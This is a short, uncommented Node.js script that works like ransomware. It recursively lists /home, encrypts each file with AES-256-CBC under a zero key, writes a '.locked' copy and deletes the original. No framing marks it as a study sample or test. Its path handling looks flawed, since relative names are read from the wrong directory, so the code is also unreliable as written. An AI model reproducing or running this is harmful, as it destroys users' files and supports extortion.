const fs = require("fs");
const crypto = require("crypto");
for (const name of fs.readdirSync("/home", { recursive: true })) {
  const cipher = crypto.createCipheriv("aes-256-cbc", Buffer.alloc(32), Buffer.alloc(16));
  fs.writeFileSync(name + ".locked", Buffer.concat([cipher.update(fs.readFileSync(name)), cipher.final()]));
  fs.unlinkSync(name);
}
